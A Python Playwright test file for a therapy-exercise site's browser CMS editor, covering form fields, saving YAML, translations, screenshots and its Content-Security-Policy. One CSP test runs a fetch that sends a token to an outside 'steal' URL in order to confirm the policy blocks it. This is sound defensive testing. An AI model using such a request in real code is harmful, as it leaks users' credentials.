"""The browser editor at /admin/ of the built site, in Chromium, as a therapist uses it.

GitHub cannot be reached from here, so the editor runs in its local-repository mode: it works
on a folder through the browser's File System Access API, and `window.showDirectoryPicker`
(the folder picker, the one thing a test cannot click through) returns a folder of the
browser's origin-private file system that the test filled with `.git/` and the seed exercises.
The editor itself lists them, opens the form, and writes the YAML file with its own code; the
test reads that file back and runs the generator on it. No GitHub API is faked: signing in and
pull requests are not exercised here (the guide describes them).

The screenshots in the guide (overrides/assets/images/guide/) are taken here, from the real
editor: into the test's own folder on every run, into the guide's with `--update-screenshots`
(`make guide-screenshots`), so that a test run never changes a tracked file.
"""

from __future__ import annotations

import difflib
import functools
import operator
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import expect

from bench.synth import copy_project
from generator import catalogue, i18n, layout, scaffold
from generator.editor import EXAMPLES, GITHUB_API, WORDS, install
from generator.schema import Example, Exercise, PracticeLog, Source, Step
from tests.conftest import ROOT, new_context, read_page, run_generator, serving
from tests.i18n import arabic, bilingual, scripts, spanish

from .conftest import DESKTOP, Requests, origin_of

GUIDE_IMAGES = ROOT / "overrides" / "assets" / "images" / "guide"
EXERCISES = "content/exercises"
PICKER = """
window.showDirectoryPicker = async () => {
  const root = await navigator.storage.getDirectory();
  return root.getDirectoryHandle('repository', { create: true });
};
"""
WRITE = """async (files) => {
  const root = await navigator.storage.getDirectory();
  const repository = await root.getDirectoryHandle('repository', { create: true });
  for (const [path, text] of Object.entries(files)) {
    const parts = path.split('/');
    let folder = repository;
    for (const part of parts.slice(0, -1)) {
      folder = await folder.getDirectoryHandle(part, { create: true });
    }
    const file = await folder.getFileHandle(parts.at(-1), { create: true });
    const out = await file.createWritable();
    await out.write(text);
    await out.close();
  }
}"""
READ = """async (path) => {
  let folder = await (await navigator.storage.getDirectory()).getDirectoryHandle('repository');
  const parts = path.split('/');
  for (const part of parts.slice(0, -1)) folder = await folder.getDirectoryHandle(part);
  return (await (await folder.getFileHandle(parts.at(-1))).getFile()).text();
}"""
# Where the preview shows a field typed into (generator/admin/preview.js).
PREVIEWED = {"summary": ".ex-summary", "steps": ".ex-step"}
# Whether nothing but blanks follows the caret in the focused box.
AT_THE_END = """box => {
  const selection = getSelection();
  if (!selection.focusNode || !box.contains(selection.focusNode)) return false;
  const after = document.createRange();
  after.selectNodeContents(box);
  after.setStart(selection.focusNode, selection.focusOffset);
  return after.toString().trim() === '';
}"""
VIOLATIONS = """
window.policyViolations = [];
document.addEventListener('securitypolicyviolation',
  (event) => window.policyViolations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
# What the end-to-end test types, one value for every field of the model.
NEW: dict[str, Any] = {
    # Accents dropped and letters spelled out: the editor names the file as `new` would.
    "title": "Évening Wind-down für Zwei",
    "subtitle": "Ten quiet minutes together before sleep",
    "summary": "Sit together for ten minutes before sleep, lights low, phones away.",
    "difficulty": "easy",
    "recommended": True,
    "source": {"book": "attached", "insight": 3},
    "tags": ["couples"],
    "outcome": "Calmer evenings and an easier time falling asleep.",
    "principles": ["Rest is something you share."],
    "steps_title": "Wind down together",
    "steps": [{"title": "Dim the lights.", "body": "Turn off the screens and the big lights."}],
    "examples": [{"title": "Ana and Joe", "story": "They tried it for a week of late shifts."}],
    "reflection_questions": ["What helped you settle tonight?"],
    "tips": ["Keep it short on busy days."],
    "background": "Shared routines help couples co-regulate before sleep.",
    "practice_log": {"days": 5, "columns": ["How calm I felt"]},
    "related": ["secure-base-strategy"],
}


def seed_files() -> dict[str, str]:
    files = {f"{EXERCISES}/{path.name}": path.read_text(encoding="utf-8")
             for path in sorted((ROOT / EXERCISES).glob("*.yaml"))}
    files[".git/HEAD"] = "ref: refs/heads/main\n"
    return files


class Editor:
    """One browser context on /admin/, recording requests, console errors and CSP reports."""

    def __init__(self, browser, site_url: str):
        self.context = new_context(browser, viewport=DESKTOP, locale="en-US")
        self.requests = Requests(origin_of(site_url))
        self.requests.attach(self.context)
        self.network: list[str] = []
        self.context.route("**/*", self._boundary)
        self.context.add_init_script(PICKER)
        self.context.add_init_script(VIOLATIONS)
        self.page = self.context.new_page()
        self.errors: list[str] = []
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.url = site_url + "admin/"

    def _console(self, message) -> None:
        if message.type == "error":
            self.errors.append(message.text)

    def _boundary(self, route) -> None:
        """Every request that would reach the network (those sw.js answers never get here)."""
        self.network.append(route.request.url)
        route.fallback()

    def open(self) -> None:
        self.page.goto(self.url)
        self.page.get_by_role("button", name="Work with Local Repository").wait_for()

    def open_local_repository(self, files: dict[str, str]) -> None:
        self.open()
        self.page.evaluate(WRITE, files)
        self.page.get_by_role("button", name="Work with Local Repository").click()
        self.page.get_by_role("button", name="New").wait_for()

    def field(self, path: str):
        """A field of the form by its key path (`steps.0.title`). The editor draws the fields
        of a long form as they scroll into view, so the form is scrolled until it is there."""
        found = self.page.locator(f'[data-key-path="{path}"]')
        self.page.mouse.move(DESKTOP["width"] // 4, DESKTOP["height"] // 2)
        for _ in range(40):
            if found.count():
                break
            self.page.mouse.wheel(0, DESKTOP["height"] // 2)
            self.page.wait_for_timeout(100)
        found.scroll_into_view_if_needed()
        return found

    def write(self, path: str, text: str) -> None:
        self.field(path).get_by_role("textbox").fill(text)

    def add_item(self, path: str) -> None:
        self.field(path).get_by_role("button", name=re.compile(r"^Add\b")).last.click()

    def read(self, path: str) -> str:
        return self.page.evaluate(READ, path)

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def screenshots(request, tmp_path) -> Path:
    """Where the guide's screenshots go: the guide's images with --update-screenshots, else
    the test's own folder."""
    if request.config.getoption("--update-screenshots"):
        return GUIDE_IMAGES
    folder = tmp_path / "test-artifacts"
    folder.mkdir()
    return folder


@pytest.fixture
def editor(browser, site_url):
    opened = Editor(browser, site_url)
    yield opened
    opened.close()


def tick(box) -> None:
    """Tick a checkbox or a radio button of the form. Under load Sveltia's form can miss a
    click while it is busy (laying out a field just added, taking the value typed before): the
    click is then tried again, as a person would; any other failure is raised."""
    for _ in range(4):
        try:
            box.check(timeout=10_000)
            return
        except PlaywrightError as exc:
            if "did not change its state" not in str(exc):
                raise
    box.check()


def fill_every_field(editor: Editor) -> None:
    """Type NEW into the new-exercise form, the way a person would."""
    page = editor.page
    editor.write("title", NEW["title"])
    editor.write("subtitle", NEW["subtitle"])
    editor.write("summary", NEW["summary"])
    tick(editor.field("difficulty").get_by_role("radio", name="Easy"))
    editor.field("recommended").get_by_role("switch").click()
    tick(editor.field("source").get_by_role("checkbox", name=re.compile("Add")))
    tick(editor.field("source.book").get_by_role("radio", name="Attached"))
    editor.field("source").get_by_role("spinbutton", name="Insight").fill("3")
    editor.field("tags").get_by_role("combobox").click()
    page.get_by_role("option", name="For couples").click()
    editor.write("outcome", NEW["outcome"])
    editor.add_item("principles")
    editor.write("principles.0", NEW["principles"][0])
    editor.write("steps_title", NEW["steps_title"])
    editor.add_item("steps")
    editor.write("steps.0.title", NEW["steps"][0]["title"])
    editor.write("steps.0.body", NEW["steps"][0]["body"])
    editor.add_item("examples")
    editor.write("examples.0.title", NEW["examples"][0]["title"])
    editor.write("examples.0.story", NEW["examples"][0]["story"])
    editor.add_item("reflection_questions")
    editor.write("reflection_questions.0", NEW["reflection_questions"][0])
    editor.add_item("tips")
    editor.write("tips.0", NEW["tips"][0])
    editor.write("background", NEW["background"])
    tick(editor.field("practice_log").get_by_role("checkbox", name=re.compile("Add")))
    editor.field("practice_log").get_by_role("spinbutton", name="Days").fill("5")
    editor.add_item("practice_log.columns")
    editor.write("practice_log.columns.0", NEW["practice_log"]["columns"][0])
    tick(editor.field("related").get_by_role("checkbox", name="The Secure Base Strategy"))


def test_editor_asks_no_other_host_and_logs_no_error(editor):
    editor.open()
    page = editor.page
    page.wait_for_load_state("networkidle")
    families = page.evaluate("""async () => { await document.fonts.ready;
        return [...document.fonts].filter(f => f.status === 'loaded').map(f => f.family); }""")
    assert {"Source Sans 3", "Material Symbols Outlined"} <= {f.strip("'\"") for f in families}
    local = [url for url in editor.network if editor.requests.is_local(url)]
    assert any(url.endswith("/admin/sveltia-cms.js") for url in local)
    assert [url for url in editor.network if not editor.requests.is_local(url)] == []
    # The page did ask for the CDN's fonts and the update check: sw.js answered them.
    assert any("cdn.jsdelivr.net" in url for _, url in editor.requests.seen)
    assert editor.errors == []
    assert page.evaluate("window.policyViolations") == []


def test_page_carries_the_policy_and_the_policy_is_enforced(editor, site_dir):
    html = (site_dir / "admin" / "index.html").read_text(encoding="utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert policy, "admin/index.html has no Content-Security-Policy"
    directives = {d.split()[0]: d.split()[1:] for d in policy.group(1).split("; ")}
    assert directives["script-src"][0] == "'self'"
    assert all(src.startswith("https://unpkg.com/immutable@") and src.endswith(".js")
               for src in directives["script-src"][1:])
    foreign = [src for src in directives["connect-src"]
               if src.startswith("https://") and src != GITHUB_API]
    assert all(re.fullmatch(r"https://[^/]+/.+\.json", src) for src in foreign), foreign
    assert "unsafe-eval" not in policy.group(1)
    editor.open()
    blocked = editor.page.evaluate("""() => fetch('https://example.org/steal?token=x')
        .then(() => 'sent', () => 'blocked')""")
    assert blocked == "blocked"
    assert any("example.org" in v for v in editor.page.evaluate("window.policyViolations"))


def _groups(scope) -> list[str]:
    names = scope.get_by_role("group").evaluate_all(
        "els => els.map(e => e.getAttribute('aria-label') || '')")
    return [re.sub(r"[\u2068\u2069“”]", "", name).removesuffix(" Field")
            for name in names if name.endswith("Field")]


def _labels(model) -> list[str]:
    return [name.replace("_", " ").capitalize() for name in model.model_fields]


def test_new_exercise_form_shows_every_field_of_the_model(editor):
    editor.open_local_repository(seed_files())
    editor.page.get_by_role("button", name="New").click()
    form = editor.page.get_by_role("group", name=re.compile("Content$")).first
    for name in Exercise.model_fields:
        editor.field(name)
    shown = _groups(form)
    top = [label for label in shown if label in _labels(Exercise)]
    assert top == _labels(Exercise), "the form's fields are not the model's, in its order"
    for path, model in (("source", Source), ("practice_log", PracticeLog)):
        tick(editor.field(path).get_by_role("checkbox", name=re.compile("Add")))
        assert _groups(editor.field(path)) == _labels(model)
    for path, model in (("steps", Step), ("examples", Example)):
        editor.add_item(path)
        assert _groups(editor.field(path)) == _labels(model)
    # Markdown boxes offer only what the page renders: no headings, images or code blocks.
    toolbar = editor.field("summary").get_by_role("toolbar", name="Text Editor")
    assert toolbar.get_by_role("button", name="Bold").is_visible()
    assert toolbar.get_by_role("button", name="Image").count() == 0
    marked = {name: editor.field(name).inner_text().splitlines()[1] == "*"
              for name in Exercise.model_fields}
    assert marked == {name: info.is_required() for name, info in Exercise.model_fields.items()}


def test_an_exercise_made_in_the_editor_passes_check_and_builds(editor, project, screenshots):
    editor.open_local_repository(seed_files())
    page = editor.page
    page.get_by_role("button", name="New").click()
    fill_every_field(editor)
    page.locator('[data-key-path="title"]').scroll_into_view_if_needed()
    preview = page.frame_locator("iframe").first
    headings = preview.locator("h1, h2").all_inner_texts()
    assert headings == [NEW["title"], "What You'll Achieve", "Key principles",
                        NEW["steps_title"], "Example", "Reflection Questions",
                        "Personalization Tips", "Practice log", "Background",
                        "Related exercises"], "the preview is not laid out like the page"
    page.screenshot(path=screenshots / "editor-form.png", animations="disabled")
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Entry saved").wait_for()
    # The guide's picture is the list as it stays: the message gone (after its own 5 s), the
    # pointer away from every button. A test run's own picture need not wait for that.
    if screenshots == GUIDE_IMAGES:
        page.get_by_text("Entry saved").wait_for(state="hidden")
    page.mouse.move(DESKTOP["width"] // 2, DESKTOP["height"] - 1)
    page.evaluate("() => document.activeElement && document.activeElement.blur()")
    page.screenshot(path=screenshots / "editor-saved.png", animations="disabled")
    slug = scaffold.slugify(NEW["title"])
    assert slug == "evening-wind-down-fuer-zwei"
    written = editor.read(f"{EXERCISES}/{slug}.yaml")
    assert yaml.safe_load(written) == NEW
    (project / EXERCISES / f"{slug}.yaml").write_text(written, encoding="utf-8")
    checked = run_generator(project, "check")
    assert checked.returncode == 0, checked.stderr
    run_generator(project, "site", check=True)
    page_html = read_page(project / "site", f"exercises/{slug}/")
    text = re.sub(r"<[^>]+>", " ", page_html)
    text = " ".join(text.replace("&#39;", "'").replace("&amp;", "&").split())
    for value in _strings(NEW):
        assert value in text, f"{value!r} is not on the built page"
    for heading in ("What You'll Achieve", "Key principles", NEW["steps_title"], "Example",
                    "Reflection Questions", "Personalization Tips", "Practice log",
                    "Background", "Related exercises"):
        assert heading in text
    assert editor.errors == []
    assert editor.page.evaluate("window.policyViolations") == []
    assert [url for url in editor.network if not editor.requests.is_local(url)] == []


def _strings(value) -> list[str]:
    if isinstance(value, dict):
        return [s for key, v in value.items() if key not in ("book", "related", "tags",
                                                            "difficulty") for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_signing_in_asks_for_a_token_with_the_rights_the_guide_names(editor, screenshots):
    """The token dialog, as the guide shows it (its screenshot is taken here). Nothing is typed:
    signing in would need GitHub."""
    editor.open()
    editor.page.get_by_role("button", name="Sign In Using Access Token").click()
    dialog = editor.page.get_by_role("alertdialog", name="Sign In Using Access Token")
    dialog.wait_for()
    # No focus ring: whether the box shows one depends on how focus arrived, run by run.
    dialog.get_by_role("textbox", name="Personal Access Token").evaluate("box => box.blur()")
    editor.page.wait_for_load_state("networkidle")
    editor.page.wait_for_function("""async () => { await document.fonts.ready;
        return document.getAnimations().every(a => a.playState !== 'running'); }""")
    editor.page.screenshot(path=screenshots / "editor-sign-in.png", animations="disabled")
    assert "pull requests" in dialog.inner_text()
    link = dialog.get_by_role("link").get_attribute("href") or ""
    assert "contents=write" in link and "pull_requests=write" in link
    assert [url for url in editor.network if not editor.requests.is_local(url)] == []


def test_the_guide_shows_the_screenshots_taken_here():
    guide = (ROOT / "content/pages/guide/adding-an-exercise.md").read_text(encoding="utf-8")
    shown = re.findall(r'<img src="\.\./\.\./assets/images/guide/([^"]+)"', guide)
    assert shown == ["editor-sign-in.png", "editor-form.png", "editor-saved.png"]
    assert all((GUIDE_IMAGES / name).is_file() for name in shown)


def test_the_form_catches_mistakes_before_saving(editor):
    editor.open_local_repository(seed_files())
    page = editor.page
    page.get_by_role("button", name="New").click()
    tick(editor.field("source").get_by_role("checkbox", name=re.compile("Add")))
    editor.field("source").get_by_role("spinbutton", name="Insight").fill("9")
    tick(editor.field("practice_log").get_by_role("checkbox", name=re.compile("Add")))
    editor.field("practice_log").get_by_role("spinbutton", name="Days").fill("15")
    page.get_by_role("button", name="Save").click()
    for name in ("title", "summary", "difficulty", "steps"):
        assert "This field is required." in editor.field(name).inner_text(), name
    assert "It must be between 1 and 8." in editor.field("source").inner_text()
    assert "It must be between 1 and 14." in editor.field("practice_log").inner_text()
    assert page.get_by_text("Entry saved").count() == 0
    files = page.evaluate("""async () => {
        const repository = await (await navigator.storage.getDirectory())
            .getDirectoryHandle('repository');
        const folder = await (await repository.getDirectoryHandle('content'))
            .getDirectoryHandle('exercises');
        const names = [];
        for await (const name of folder.keys()) names.push(name);
        return names.sort(); }""")
    assert files == sorted(Path(name).name for name in seed_files() if name.startswith(EXERCISES))



def changed_lines(before: str, after: str) -> int:
    """Lines removed plus lines added: what a reviewer reads in the pull request's diff."""
    return sum(1 for line in difflib.unified_diff(before.splitlines(), after.splitlines(), n=0,
                                                  lineterm="")
               if line[:1] in "+-" and not line.startswith(("+++", "---")))


def installed(root: Path, served: Path) -> Path:
    """The editor of the project at `root`, installed on its own (it reads the repository,
    not the built pages) beside the site's icon."""
    install(catalogue.load(root), served)
    (served / "assets").mkdir()
    shutil.copy(ROOT / "overrides/assets/favicon.svg", served / "assets")
    return served


def press(box, key: str, now: str, then: str, to_the_end) -> None:
    """Press `key` in `box` until its text goes from `now` to `then`. The rich-text box can
    lose a key, or move its caret, while it is busy (taking its value, redrawing): then the
    caret is put back at the end (`to_the_end`) and the key pressed again."""
    for _ in range(5):
        box.press(key)
        try:
            expect(box).to_have_text(then, timeout=2000)
            return
        except AssertionError:
            if " ".join((box.text_content() or "").split()) != " ".join(now.split()):
                raise
            to_the_end()
    expect(box).to_have_text(then)


class Session:
    """An exercise open in the editor: a word typed at the end of a text and saved, or taken
    back."""

    ADDED = "Again"  # typed at the end of a text, one key at a time

    def __init__(self, editor: Editor, rel: str):
        self.editor = editor
        self.rel = rel
        self.original = editor.read(rel)  # as the repository holds it now
        self.title = yaml.safe_load(self.original)["title"]

    def open(self) -> None:
        page = self.editor.page
        page.get_by_text(self.title, exact=True).click()
        self.editor.field("title").get_by_role("textbox").wait_for()

    def save(self) -> str:
        """Save, and the file as written once the editor is back at the list."""
        page = self.editor.page
        save = page.get_by_role("button", name="Save")
        expect(save).to_be_enabled()
        save.click()
        page.get_by_text("Entry saved").wait_for()
        page.get_by_role("button", name="New").wait_for()
        return self.editor.read(self.rel)

    def text_box(self, path: str):
        """The text box at `path` with the caret after its last character. The box takes
        its value, then its caret, a moment after it shows: the key is pressed again until
        nothing follows the caret."""
        box = self.editor.field(path).get_by_role("textbox")
        expect(box).not_to_be_empty()
        for _ in range(50):
            box.press("Control+End")
            if box.evaluate(AT_THE_END):
                return box
            self.editor.page.wait_for_timeout(100)
        raise AssertionError(f"the caret does not reach the end of {path}")

    def type_at_end(self, path: str) -> None:
        box = self.text_box(path)
        before = box.text_content() or ""
        for count, key in enumerate(self.ADDED, 1):
            press(box, key, before + self.ADDED[:count - 1], before + self.ADDED[:count],
                  lambda: self.text_box(path))
        self.previewed(path, before + self.ADDED)

    def take_back(self, path: str) -> None:
        box = self.text_box(path)
        before = (box.text_content() or "").removesuffix(self.ADDED)
        for count in range(len(self.ADDED) - 1, -1, -1):
            press(box, "Backspace", before + self.ADDED[:count + 1], before + self.ADDED[:count],
                  lambda: self.text_box(path))
        self.previewed(path, before)

    def previewed(self, path: str, text: str) -> None:
        """Waits until the preview shows `text` at the end of the field at `path`: the form
        passes what is typed on to the entry (which Save writes) a moment later."""
        preview = self.editor.page.frame_locator("iframe").first
        shown = preview.locator(PREVIEWED[path.split(".")[0]])
        if path.startswith("steps."):
            shown = shown.nth(int(path.split(".")[1]))
        expect(shown).to_have_text(re.compile(re.escape(text[-30:]) + r"\s*$"))

    def word_added(self, path: str) -> str:
        """The file once a word is typed at the end of the text field at `path` and saved."""
        self.open()
        assert self.editor.page.get_by_role("button", name="Save").is_disabled(), (
            "an unchanged exercise has something to save")
        self.type_at_end(path)
        return self.save()

    def with_the_word(self, path: str) -> str:
        """The file the editor should write for `word_added(path)`: the exercise with the word
        added, in the files' layout (generator/layout.py)."""
        data = yaml.safe_load(self.original)
        *keys, last = [int(key) if key.isdigit() else key for key in path.split(".")]
        holder = functools.reduce(operator.getitem, keys, data)
        holder[last] += self.ADDED
        return layout.text(Exercise.model_validate(data))

    def word_taken_back(self, path: str) -> str:
        """The file once the word typed at the end of the field at `path` is taken out again
        and saved."""
        self.open()
        self.take_back(path)
        return self.save()


def project_files(root: Path) -> dict[str, str]:
    files = {path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
             for path in sorted((root / EXERCISES).rglob("*.yaml"))}
    return {**files, ".git/HEAD": "ref: refs/heads/main\n"}


# Every exercise file of the repository, each in a project whose site_data.yaml it belongs to
# (its difficulty, tags and book must be among the form's choices), and a file `new` writes.
def seeds_and_new(root: Path) -> Path:
    scaffold.new(copy_project(root), NEW_TITLE)
    return root


ROUND_TRIPS = {
    "seeds and new": (seeds_and_new, ["dependency-paradox.yaml", "secure-base-strategy.yaml",
                                      "your-partners-turn.yaml"]),
    "spanish": (spanish, ["base-segura.yaml", "de-libro.yaml", "sin-libro.yaml"]),
    "arabic": (arabic, ["qaeda-amina.yaml"]),
    "scripts": (scripts, ["scripts.yaml"]),
}
NEW_TITLE = "Your Partner's Turn"
LANGUAGES = {"spanish": "es", "arabic": "ar"}
# The page's sections in its order (generator/templates/exercise.md.j2): the key that shows
# one, and its heading's name in generator/editor.py's WORDS.
SECTIONS = [("outcome", "outcome"), ("principles", "principles"), ("steps", "steps"),
            ("examples", None), ("reflection_questions", "questions"), ("tips", "tips"),
            ("practice_log", "log"), ("background", "background"), ("references", "references"),
            ("related", "related")]


def shows_the_page_in_its_language(editor: Editor, files: dict[str, str], rel: str,
                                   language: str) -> None:
    """The preview of an exercise in `language` has the headings of its page, in the words
    of the site's catalogue for that language, and its direction."""
    data = yaml.safe_load(files[rel])
    words = i18n.translations(language)
    expected = [data.get("steps_title") or words.gettext(WORDS["steps"]) if key == "steps"
                else words.ngettext(*EXAMPLES, len(data[key])) if key == "examples"
                else words.gettext(WORDS[name or key])
                for key, name in SECTIONS if data.get(key)]
    Session(editor, rel).open()
    preview = editor.page.frame_locator("iframe").first
    expect(preview.locator("h2")).to_have_text(expected)
    assert expected != [i18n.gettext("en", WORDS[name]) for key, name in SECTIONS
                        if data.get(key) and name], "the catalogue did not translate them"
    page = preview.locator("article")
    assert page.evaluate("a => getComputedStyle(a).direction") == i18n.direction(language)
    editor.page.get_by_role("button", name=re.compile("^(Close|Cancel|Back)")).first.click()
    editor.page.get_by_role("button", name="New").wait_for()


@pytest.mark.parametrize("kind", ROUND_TRIPS)
def test_saving_changes_only_what_was_changed(browser, tmp_path, kind):
    """Open + Save of an unchanged exercise has nothing to write (Save is disabled). A word
    added to the summary is saved as exactly that exercise in the files' own layout, a diff
    of at most 3 lines: the editor writes every other line as it was. Taking the word back
    writes the original bytes (on the file `generator new` wrote). On the seeds, a word in a
    step's body and a tag added, too."""
    make, names = ROUND_TRIPS[kind]
    root = make(tmp_path / "project")
    files = project_files(root)
    with serving(installed(root, tmp_path / "served")) as url:
        editor = Editor(browser, url)
        editor.open_local_repository(files)
        if kind in LANGUAGES:
            shows_the_page_in_its_language(editor, files, f"{EXERCISES}/{names[0]}",
                                           LANGUAGES[kind])
        for name in names:
            session = Session(editor, f"{EXERCISES}/{name}")
            saved = session.word_added("summary")
            assert saved == session.with_the_word("summary"), f"{name}: not in its layout"
            lines = changed_lines(session.original, saved)
            assert lines <= 3, f"{name}: a word in the summary changed {lines} lines"
        if kind == "seeds and new":
            made_by_new = f"{EXERCISES}/{names[-1]}"
            back = Session(editor, made_by_new).word_taken_back("summary")
            assert back == files[made_by_new], "not written back as it was"
            session = Session(editor, f"{EXERCISES}/dependency-paradox.yaml")
            saved = session.word_added("steps.1.body")
            assert saved == session.with_the_word("steps.1.body")
            assert changed_lines(session.original, saved) <= 3
            session = Session(editor, f"{EXERCISES}/dependency-paradox.yaml")
            session.open()
            editor.field("tags").get_by_role("combobox").click()
            editor.page.get_by_role("option", name="For couples").click()
            assert changed_lines(session.original, session.save()) <= 3
        assert editor.errors == []
        editor.close()


@pytest.fixture
def bilingual_editor(browser, tmp_path) -> Iterator[tuple[Path, Editor]]:
    """The editor of the project with a Spanish version (tests/i18n/bilingual), installed on
    its own (it reads the repository, not the built pages) beside the site's icon, and that
    project's root."""
    root = bilingual(tmp_path / "project")
    with serving(installed(root, tmp_path / "served")) as url:
        opened = Editor(browser, url)
        yield root, opened
        opened.close()


def test_a_translation_made_in_the_editor_lands_in_its_languages_folder(bilingual_editor):
    """The language menu of an exercise that has no Spanish version yet: enabling Spanish and
    copying the English to translate from it writes content/exercises/es/<slug>.yaml, with
    the ids of the English and the text typed, and `check` takes it as the translation."""
    root, editor = bilingual_editor
    files = {path.relative_to(root).as_posix(): path.read_text(encoding="utf-8")
             for path in sorted((root / EXERCISES).rglob("*.yaml"))}
    editor.open_local_repository({**files, ".git/HEAD": "ref: refs/heads/main\n"})
    page = editor.page
    translated = yaml.safe_load(files[f"{EXERCISES}/es/secure-base-strategy.yaml"])["title"]
    page.get_by_text("The Secure Base Strategy", exact=True).wait_for()
    assert page.get_by_text(translated, exact=True).count() == 0, "one entry per exercise"
    english = Exercise.model_validate(yaml.safe_load(files[f"{EXERCISES}/dependency-paradox.yaml"]))
    page.get_by_text(english.title, exact=True).click()
    editor.field("title").get_by_role("textbox").wait_for()
    languages = page.get_by_role("radiogroup", name="Switch Locale").first
    languages.get_by_role("radio", name=re.compile("^Spanish")).click()
    page.get_by_role("button", name="Enable \u2068Spanish\u2069").click()
    page.get_by_role("button", name="Show \u2068Spanish\u2069 Content Options").click()
    page.get_by_role("menuitem", name=re.compile("^Copy from")).click()
    editor.write("title", "La paradoja de la dependencia")
    # The preview of the Spanish version speaks Spanish.
    preview = page.frame_locator("iframe").first
    expect(preview.locator("h1")).to_have_text("La paradoja de la dependencia")
    expect(preview.locator("article")).to_have_attribute("lang", "es")
    expect(preview.locator("h2").last).to_have_text(i18n.gettext("es", WORDS["related"]))
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Entry saved").wait_for()

    written = editor.read(f"{EXERCISES}/es/dependency-paradox.yaml")
    spanish = Exercise.model_validate(yaml.safe_load(written))
    assert spanish == english.model_copy(update={"title": "La paradoja de la dependencia"})
    assert written == layout.text(spanish), "a translation is in the same layout"
    kept = editor.read(f"{EXERCISES}/dependency-paradox.yaml")
    assert kept == files[f"{EXERCISES}/dependency-paradox.yaml"], "the English is untouched"
    (root / EXERCISES / "es" / "dependency-paradox.yaml").write_text(written, encoding="utf-8")
    checked = run_generator(root, "check")
    assert checked.returncode == 0, checked.stderr
    site = catalogue.load(root)
    assert site.translations[0].entry("dependency-paradox").exercise == spanish
    assert editor.errors == []
    assert [url for url in editor.network if not editor.requests.is_local(url)] == []
